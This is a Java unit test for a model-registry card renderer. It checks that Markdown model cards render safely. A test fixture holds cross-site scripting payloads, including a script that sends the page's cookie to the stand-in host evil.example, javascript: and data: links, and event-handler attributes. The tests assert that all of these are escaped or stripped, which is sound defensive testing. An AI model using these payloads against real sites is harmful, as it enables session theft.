package dev.brickyard.registry.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import org.junit.jupiter.api.Test;

class CardRendererTest {

    /** What a hostile publisher might put in a card to run code in a reader's browser. */
    static final String MALICIOUS_CARD = """
            ---
            id: acme/evil
            ---
            # Harmless <script>alert('heading')</script>

            <script>document.location='https://evil.example/?c='+document.cookie</script>

            <iframe src="https://evil.example/frame"></iframe>

            <img src="x" onerror="alert('img')">

            <a href="javascript:alert('raw link')">raw link</a>

            [click me](javascript:alert(document.cookie))

            [also me](JaVaScRiPt:alert(1))

            [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

            ![pixel](javascript:alert('image'))

            <div onmouseover="alert('div')">hover</div>

            [fine](https://example.com/docs)
            """;

    @Test
    void perLabelScoreTablesOfTrainedCardsRenderAsTables() {
        String html = CardRenderer.render("""
                ---
                id: acme/x
                ---
                | label | F1 |
                |---|---|
                | sports | 0.988 |
                | <b>politics</b> | 0.975 |
                """);
        assertTrue(html.contains("<table>") && html.contains("<td>sports</td>") && html.contains("<td>0.988</td>"),
                html);
        assertFalse(html.contains("<b>politics</b>"), "raw HTML inside a table cell must stay escaped: " + html);
    }

    @Test
    void dropsTheFrontMatterAndRendersMarkdown() {
        String html = CardRenderer.render("---\nid: acme/x\nsecret: front\n---\n# Title\n\nSome *prose* and `code`.\n");

        assertFalse(html.contains("secret"), html);
        assertTrue(html.contains("<h1>Title</h1>"), html);
        assertTrue(html.contains("<em>prose</em>"), html);
        assertTrue(html.contains("<code>code</code>"), html);
    }

    @Test
    void aMaliciousCardCannotInjectMarkupOrScriptLinks() {
        String html = CardRenderer.render(MALICIOUS_CARD);
        String lower = html.toLowerCase(Locale.ROOT);

        assertFalse(lower.contains("<script"), html);
        assertFalse(lower.contains("<iframe"), html);
        assertFalse(lower.contains("<img src=\"x\""), html);
        assertFalse(lower.contains("<div"), html);
        assertFalse(lower.contains("<a href=\"javascript"), html);
        assertFalse(lower.contains("href=\"javascript:"), html);
        assertFalse(lower.contains("src=\"javascript:"), html);
        assertFalse(lower.contains("href=\"data:"), html);
        // The raw HTML is still there for the reader to see, as text.
        assertTrue(html.contains("&lt;script&gt;document.location"), html);
        assertTrue(html.contains("&lt;iframe src=&quot;https://evil.example/frame&quot;&gt;"), html);
        // Ordinary links survive, marked as third-party content.
        assertTrue(html.contains("<a rel=\"nofollow ugc noopener noreferrer\" href=\"https://example.com/docs\">fine</a>"),
                html);
        // Markdown links to scripts keep their text but lose their target.
        assertTrue(html.contains("<a rel=\"nofollow ugc noopener noreferrer\" href=\"\">click me</a>"), html);
        assertTrue(html.contains("<a rel=\"nofollow ugc noopener noreferrer\" href=\"\">also me</a>"), html);
    }

    @Test
    void aCardWithoutProseRendersEmpty() {
        assertEquals("", CardRenderer.render("---\nid: acme/x\n---\n"));
        assertEquals("", CardRenderer.render(null));
    }
}
